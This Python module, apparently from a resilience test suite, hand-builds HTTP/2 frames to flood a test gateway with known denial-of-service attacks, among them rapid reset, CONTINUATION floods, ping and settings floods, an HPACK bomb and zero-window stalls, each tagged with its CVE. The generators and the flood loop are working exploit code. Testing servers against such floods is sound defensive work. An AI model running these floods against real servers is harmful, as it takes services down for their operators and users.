"""HTTP/2 clients that break no framing rule, or only just, and mean harm (RFC 9113 §10.5, CVE by flood).

Frames are made by hand: no client library sends such things. Connections are by prior knowledge, so that the
generator's TLS is not what is measured.
"""

from __future__ import annotations

import asyncio
import itertools
import struct
from collections.abc import Awaitable, Callable, Iterable, Iterator

from hpack import Encoder, NeverIndexedHeaderTuple

from tests.chaos.greedy.link import Link, Target, attack, told

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS = 1, 4
#: Frames sent in one piece.
BURST = 100
AGAIN = 0.1
MOST_STREAM = (1 << 31) - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113 §4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(method: str = "GET", path: str = "/small") -> bytes:
    """A field block that leaves the peer's table alone, so that it can be sent any number of times."""
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "greedy.test")]
    return bytes(Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields]))


def bursts(frames: Iterable[bytes]) -> Iterator[bytes]:
    """Pieces of `BURST` frames."""
    frames = iter(frames)
    while piece := b"".join(itertools.islice(frames, BURST)):
        yield piece


def streams() -> Iterator[int]:
    """Stream numbers of a client, while there are any."""
    return iter(range(1, MOST_STREAM, 2))


def rapid_reset() -> Iterator[bytes]:
    """Requests that are taken back at once (CVE-2023-44487)."""
    block, cancel = request(), struct.pack(">I", 8)
    for n in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, n, block) + frame(RST_STREAM, 0, n, cancel)


def made_you_reset() -> Iterator[bytes]:
    """Requests that the other side has to reset (CVE-2025-8671): a window update of zero on each."""
    block = request("POST", "/sink")
    for n in streams():
        yield frame(HEADERS, END_HEADERS, n, block) + frame(WINDOW_UPDATE, 0, n, bytes(4))


def continuation() -> Iterator[bytes]:
    """A field block that never ends (CVE-2024-27316 and others)."""
    piece = Encoder().encode([("x-long", "b" * 1000)])
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuation() -> Iterator[bytes]:
    """The same with nothing in it."""
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1)


def ping() -> Iterator[bytes]:
    """Pings, each of which wants an answer (CVE-2019-9512)."""
    return itertools.repeat(frame(PING, 0, 0, b"greedy!!"))


def settings() -> Iterator[bytes]:
    """Settings, each of which wants an acknowledgement (CVE-2019-9515)."""
    return itertools.repeat(frame(SETTINGS, 0, 0))


def priority() -> Iterator[bytes]:
    """Priorities of streams that are not there (CVE-2019-9513)."""
    for n in itertools.cycle(range(1, 2001, 2)):
        yield frame(PRIORITY, 0, n, struct.pack(">IB", 0, 15))


def empty_data() -> Iterator[bytes]:
    """A body of nothing, without an end (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, request("POST", "/sink"))
    while True:
        yield frame(DATA, 0, 1)


def window_updates() -> Iterator[bytes]:
    """Windows opened by a byte at a time."""
    return itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def hpack_bomb() -> Iterator[bytes]:
    """One long field put into the table once and named by a byte thousands of times on every request."""
    encoder = Encoder()
    first = bytes(encoder.encode([("x-bomb", "b" * 3900)]))
    again = b"\xbe" * 15_000
    for n in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, n, request() + (first if n == 1 else b"") + again)


def endings(seen: bytes) -> str:
    """`goaway` when the gateway said it goes, else what a connection of HTTP/1 is told."""
    at = 0
    while at + 9 <= len(seen):
        length, kind = int.from_bytes(seen[at : at + 3], "big"), seen[at + 3]
        if kind == GOAWAY:
            return "goaway"
        at += 9 + length
    return told(seen)


def flood(frames: Callable[[], Iterator[bytes]]) -> Callable[[Target, int], Awaitable[None]]:
    """An attack that sends these frames as fast as they are taken, on connection after connection."""

    async def once(link: Link) -> str:
        seen = bytearray()

        async def listen() -> None:
            try:
                while data := await link.reader.read(1 << 16):
                    seen.extend(data)
            except OSError:
                return

        listening = asyncio.create_task(listen())
        try:
            await link.send(PREFACE + frame(SETTINGS, 0, 0))
            for piece in bursts(frames()):
                if listening.done() or not await link.send(piece):
                    break
                await asyncio.sleep(0)
            await listening
        finally:
            listening.cancel()
        return endings(bytes(seen))

    async def run(target: Target, count: int) -> None:
        await attack(target, count, once, AGAIN)

    return run


async def no_window(target: Target, count: int) -> None:
    """A hundred big answers per connection, for which no window is ever opened (CVE-2019-9511, CVE-2019-9517)."""
    opened = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, request(path="/big")) for n in range(100))
    window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))

    async def once(link: Link) -> str:
        await link.send(PREFACE + window + opened)
        seen = bytearray()
        try:
            while data := await link.reader.read(1 << 16):
                seen += data
        except OSError:
            return "cut"
        return endings(bytes(seen))

    await attack(target, count, once, None)
